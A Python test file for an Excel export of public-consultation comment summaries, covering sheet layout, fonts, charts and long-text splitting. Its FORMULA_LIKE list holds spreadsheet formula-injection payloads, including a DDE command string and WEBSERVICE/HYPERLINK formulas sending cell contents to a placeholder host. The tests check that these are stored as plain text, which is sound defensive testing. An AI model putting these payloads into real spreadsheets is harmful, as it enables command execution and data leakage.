"""The .xlsx 汇总表 read back: the 意见明细 sheet, table and print settings, the 宋体 default font,
native charts, formula-like texts kept as text (checked in the raw XML), long texts split."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from consultation.model import Comment, Decision, Disposition, Source, Submitter, Target
from consultation.summary import Summary, SummaryRow, stored_summary, summarize
from consultation.summary_docx import HEADERS
from consultation.summary_xlsx import (
    CONTINUED,
    LINE_HEADERS,
    LINES_SHEET,
    SUMMARY_SHEET,
    TOTALS_SHEET,
    write_summary_xlsx,
)
from consultation.xlsx_cells import EXCEL_CELL_LIMIT, split_for_cell
from tests.consultation.drafts import sample_draft
from tests.consultation.test_summary import sample_comments

MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

#: Texts a spreadsheet program could take for a formula (or an error value).
FORMULA_LIKE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    '=WEBSERVICE("http://example.invalid/"&B2)',
    "+1+2 建议调整",
    "-2+3 建议删除",
    "@SUM(A1:A9)",
    "\t=1+1 前面是制表符",
    "\r=1+1 前面是回车",
    "#N/A",
]


def _summary(comments: list[Comment]) -> tuple[Summary, list[SummaryRow]]:
    draft = sample_draft()
    summarize(comments, draft)  # clusters found and recorded, as an import does
    return stored_summary(comments, draft)


def _write(tmp_path: Path, comments: list[Comment]) -> tuple[Path, Summary, list[SummaryRow]]:
    summary, rows = _summary(comments)
    path = write_summary_xlsx(tmp_path / "汇总表.xlsx", summary, rows, title="测试古城保护条例")
    return path, summary, rows


def test_one_row_per_comment(tmp_path: Path) -> None:
    comments = sample_comments()
    comments[1].decision = Decision(Disposition.ADOPTED, "已修改第二条。", "法工委")
    comments[1].channel = comments[1].channel.LETTER
    path, summary, rows = _write(tmp_path, comments)
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == [SUMMARY_SHEET, LINES_SHEET, TOTALS_SHEET]
    sheet = workbook[LINES_SHEET]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == LINE_HEADERS
    body = [dict(zip(LINE_HEADERS, row, strict=True)) for row in values[1:]]
    assert len(body) == len(comments) == summary.total
    assert [b["序号"] for b in body] == list(range(1, len(comments) + 1))
    assert [b["意见内容"] for b in body] == [c.content for c in comments]
    # Not stored yet: the submitter's own 条款 text (issue 14 adds it).
    assert all(b["条款（提出者所写）"] is None for b in body)
    second = body[1]
    assert second["条款（定位）"] == "总体" and second["提出者"] == "王代表"
    assert second["类别"] == "人大代表" and second["渠道"] == "信函"
    assert second["日期"] == dt.datetime(2024, 5, 1)
    assert second["处理意见"] == "采纳" and second["理由"] == "已修改第二条。"
    assert body[0]["条款（定位）"] == "第十五条"
    campaign = body[3:15]
    assert {b["条款（定位）"] for b in campaign} == {"第十二条第二款"}
    assert {b["分组"] for b in campaign} == {"第1组（12条）"}
    assert body[0]["分组"] is None
    # The 汇总表 row each comment went into: the campaign's single row says 共12条.
    merged = {r[0]: r for r in workbook[SUMMARY_SHEET].iter_rows(min_row=3, values_only=True)}
    assert {b["汇总表序号"] for b in campaign} == {n for n, r in merged.items() if "共12条" in r[2]}
    assert "针对“第5条的内容”" in body[15]["备注"]
    assert body[18]["条款（定位）"] == "已删除条文"


def test_tables_filter_freeze_and_print(tmp_path: Path) -> None:
    path, _, rows = _write(tmp_path, sample_comments())
    workbook = openpyxl.load_workbook(path)
    summary_sheet, lines = workbook[SUMMARY_SHEET], workbook[LINES_SHEET]
    assert summary_sheet.freeze_panes == "A3"
    assert summary_sheet.auto_filter.ref == f"A2:F{len(rows) + 2}"
    assert summary_sheet.print_title_rows == "$2:$2"
    assert "A1:F1" in {str(r) for r in summary_sheet.merged_cells.ranges}
    assert lines.freeze_panes == "A2"
    assert lines.auto_filter.ref == f"A1:M{len(sample_comments()) + 1}"
    assert lines.print_title_rows == "$1:$1"
    for sheet in (summary_sheet, lines):
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
        widths = [sheet.column_dimensions[c].width for c in "ABCD"]
        assert all(w and w >= 6 for w in widths)
    assert lines.column_dimensions["D"].width >= 40  # 意见内容
    content = lines.cell(2, 4)
    assert content.alignment.wrap_text is True and content.alignment.vertical == "top"
    assert lines.cell(1, 1).font.bold is True


def test_default_font_is_chinese(tmp_path: Path) -> None:
    path, _, _ = _write(tmp_path, sample_comments())
    with zipfile.ZipFile(path) as package:
        styles = package.read("xl/styles.xml").decode()
    first_font = re.search(r"<fonts[^>]*><font>(.*?)</font>", styles)
    assert first_font is not None and '<name val="宋体"/>' in first_font.group(1)
    assert '<charset val="134"/>' in first_font.group(1)
    assert "Calibri" not in styles
    workbook = openpyxl.load_workbook(path)
    assert workbook[LINES_SHEET].cell(2, 4).font.name == "宋体"
    assert workbook[TOTALS_SHEET].cell(1, 1).font.name == "宋体"


CHART_NS = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"


def _charts(path: Path) -> dict[str, tuple[str, str, str]]:
    """Chart title → (bar direction, category reference, value reference), read from the XML."""
    from lxml import etree

    charts = {}
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if not name.startswith("xl/charts/chart"):
                continue
            root = etree.fromstring(package.read(name))
            bar = root.find(f".//{CHART_NS}barChart")
            assert bar is not None, name
            title = "".join(root.find(f".//{CHART_NS}title").itertext())
            direction = bar.find(f"{CHART_NS}barDir").get("val")
            categories = bar.find(f".//{CHART_NS}cat//{CHART_NS}f").text
            values = bar.find(f".//{CHART_NS}val//{CHART_NS}f").text
            charts[title] = (direction, categories, values)
    return charts


def _span(reference: str) -> tuple[int, int]:
    found = re.fullmatch(r"'统计'!\$[AB]\$(\d+):\$[AB]\$(\d+)", reference)
    assert found is not None, reference
    return int(found.group(1)), int(found.group(2))


def test_charts_are_native_excel_charts(tmp_path: Path) -> None:
    path, summary, _ = _write(tmp_path, sample_comments())
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        drawing_rels = [
            package.read(n).decode() for n in names if n.startswith("xl/drawings/_rels/drawing")
        ]
        sheet_rels = package.read("xl/worksheets/_rels/sheet3.xml.rels").decode()
    assert not [n for n in names if n.startswith("xl/media/")]  # no pictures
    charts = _charts(path)
    assert set(charts) == {"意见来源分布", "各条款意见数量"}
    assert {c[0] for c in charts.values()} == {"bar"}  # horizontal bars
    assert len(drawing_rels) == 1 and drawing_rels[0].count("charts/chart") == 2
    assert "drawing" in sheet_rels  # the charts sit on the 统计 sheet
    # The references point at the figures written there.
    totals = openpyxl.load_workbook(path)[TOTALS_SHEET]
    for title, figures in (
        ("意见来源分布", summary.by_source),
        ("各条款意见数量", summary.by_article),
    ):
        _, categories, values = charts[title]
        first, last = _span(values)
        assert _span(categories) == (first, last) and categories.startswith("'统计'!$A$")
        read = {totals.cell(r, 1).value: totals.cell(r, 2).value for r in range(first, last + 1)}
        assert read == figures


def test_many_articles_chart_the_busiest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from consultation import summary_xlsx

    monkeypatch.setattr(summary_xlsx, "MAX_BARS", 5)
    comments = [Comment(f"意见{n}", target=Target(f"a{n % 20 + 1}")) for n in range(60)]
    comments += [Comment(f"意见{n}", target=Target("a7")) for n in range(60, 64)]
    summary, rows = _summary(comments)
    path = write_summary_xlsx(tmp_path / "s.xlsx", summary, rows)
    title = "各条款意见数量（意见最多的5处；另有15处共45条意见未列出）"
    charts = _charts(path)
    assert title in charts
    first, last = _span(charts[title][2])
    totals = openpyxl.load_workbook(path)[TOTALS_SHEET]
    shown = [totals.cell(r, 1).value for r in range(first, last + 1)]
    assert len(shown) == 5 and "第七条" in shown


def _sheet_cells(path: Path) -> list[tuple[str, str | None, str, bool]]:
    """(sheet, t attribute, text, has a formula) of every cell in the package's worksheets."""
    from lxml import etree

    cells = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            root = etree.fromstring(package.read(name))
            for c in root.iter(f"{MAIN_NS}c"):
                text = "".join(t.text or "" for t in c.iter(f"{MAIN_NS}t"))
                has_formula = c.find(f"{MAIN_NS}f") is not None
                cells.append((name, c.get("t"), text, has_formula))
    return cells


def test_formula_like_texts_are_stored_as_text(tmp_path: Path) -> None:
    comments = [
        Comment(
            text,
            Source.PUBLIC,
            Submitter(text),
            target=Target("a5", quote=text),
            decision=Decision(Disposition.NOT_ADOPTED, text, "法工委"),
        )
        for text in FORMULA_LIKE
    ]
    path, _, _ = _write(tmp_path, comments)
    cells = _sheet_cells(path)
    assert not [c for c in cells if c[3]], "no cell may hold a formula"
    for text in FORMULA_LIKE:
        holding = [c for c in cells if c[2] == text]
        assert len(holding) >= 3, text  # 意见内容, 提出者 and 理由 of the 意见明细 sheet
        assert {c[1] for c in holding} <= {"s", "inlineStr"}, text
    # Read back, each is the submitter's text, character for character.
    lines = openpyxl.load_workbook(path)[LINES_SHEET]
    read = [row for row in lines.iter_rows(min_row=2, values_only=True)]
    assert [r[3] for r in read] == FORMULA_LIKE
    assert [r[4] for r in read] == FORMULA_LIKE
    assert [r[11] for r in read] == FORMULA_LIKE
    summary_sheet = openpyxl.load_workbook(path)[SUMMARY_SHEET]
    assert [r[5] for r in summary_sheet.iter_rows(min_row=3, values_only=True)] == FORMULA_LIKE
    # Quote-prefixed as Excel marks a typed '=…: editing the cell keeps it text.
    for row in lines.iter_rows(min_row=2):
        if str(row[3].value)[:1] in "=+-@\t\r":
            assert row[3].quotePrefix, row[3].value


def test_split_for_cell_keeps_every_character() -> None:
    assert split_for_cell("短") == ["短"]
    text = ("古城保护𠀀" * 20_000)[:70_001]  # 𠀀 takes two UTF-16 units, as Excel counts
    pieces = split_for_cell(text)
    assert "".join(pieces) == text and len(pieces) >= 3
    assert all(len(p.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT for p in pieces)
    exact = "条" * EXCEL_CELL_LIMIT
    assert split_for_cell(exact) == [exact]
    assert split_for_cell(exact + "款") == [exact, "款"]


@pytest.mark.parametrize("length", [EXCEL_CELL_LIMIT + 1, 80_000])
def test_long_text_continues_in_cells_with_a_note(tmp_path: Path, length: int) -> None:
    long_text = ("建议细化第十二条的规定𠀀" * 8_000)[:length]
    comments = [*sample_comments(), Comment(long_text, Source.EXPERT, Submitter("李教授"))]
    path, _, rows = _write(tmp_path, comments)
    workbook = openpyxl.load_workbook(path)
    pieces = split_for_cell(long_text)
    extra = len(pieces) - 1
    # 意见明细: the text starts in 意见内容 and goes on after the last column (备注, M).
    lines = workbook[LINES_SHEET]
    header = [c.value for c in lines[1]]
    assert header == [*LINE_HEADERS, *[CONTINUED] * extra]
    row = [c for c in lines[len(comments) + 1]]
    start = row[3]
    assert start.value == pieces[0]
    continued = [c.value for c in row[len(LINE_HEADERS) :]]
    assert start.value + "".join(continued) == long_text
    assert start.comment is not None and "32767" in start.comment.text
    assert f"见本行 {row[len(LINE_HEADERS)].column_letter} 列起" in start.comment.text
    assert all(len(str(c.value or "").encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT for c in row)
    # 意见汇总表: the same, after 理由 (F).
    merged = workbook[SUMMARY_SHEET]
    assert [c.value for c in merged[2]] == [*HEADERS, *[CONTINUED] * extra]
    found = next(r for r in merged.iter_rows(min_row=3) if str(r[2].value).startswith("建议细化"))
    assert found[2].value + "".join(c.value for c in found[len(HEADERS) :]) == long_text
    assert found[2].comment is not None
    # Short rows stay six columns wide in substance.
    assert all(r[len(HEADERS)].value is None for r in merged.iter_rows(min_row=3) if r != found)


def test_command_line_summary_lists_every_comment(tmp_path: Path) -> None:
    """``comments summary --xlsx`` (the window's service too) fills the 意见明细 sheet."""
    import app
    from storage.comments import CommentStore
    from storage.library import Library

    db = tmp_path / "lib.sqlite3"
    with Library.open(db) as library:
        version = library.import_draft(sample_draft(), label="征求意见稿")
        comments = sample_comments()[:4] + [Comment(FORMULA_LIKE[0], target=Target("a5"))]
        CommentStore(library).add_comments(version.regulation_id, comments)
    out = tmp_path / "汇总表.xlsx"
    argv = ["comments", "summary", "--db", str(db), "--regulation", "1", "--xlsx", str(out)]
    assert app.main(argv) == 0
    lines = openpyxl.load_workbook(out)[LINES_SHEET]
    read = list(lines.iter_rows(min_row=2, values_only=True))
    assert sorted(r[3] for r in read) == sorted(c.content for c in comments)
    assert {r[2] for r in read if r[3] == FORMULA_LIKE[0]} == {"第五条"}
    assert not [c for c in _sheet_cells(out) if c[3]]
